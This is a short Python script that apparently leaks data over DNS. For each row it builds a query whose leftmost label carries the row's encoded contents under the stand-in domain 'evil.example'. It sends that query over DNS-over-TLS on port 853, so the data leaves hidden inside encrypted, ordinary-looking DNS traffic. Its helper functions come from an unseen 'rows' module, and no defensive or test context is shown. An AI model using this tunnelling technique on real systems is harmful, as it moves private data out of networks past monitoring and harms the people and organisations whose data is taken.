from rows import connect, each, mark, question, secure, talk


def ask(row, server):
    query = question([mark(row) + "x", "evil", "example"])
    talk(secure(connect(server, 853), "dns.example"), bytes([0, len(query)]) + query, 0.2)


each(ask)
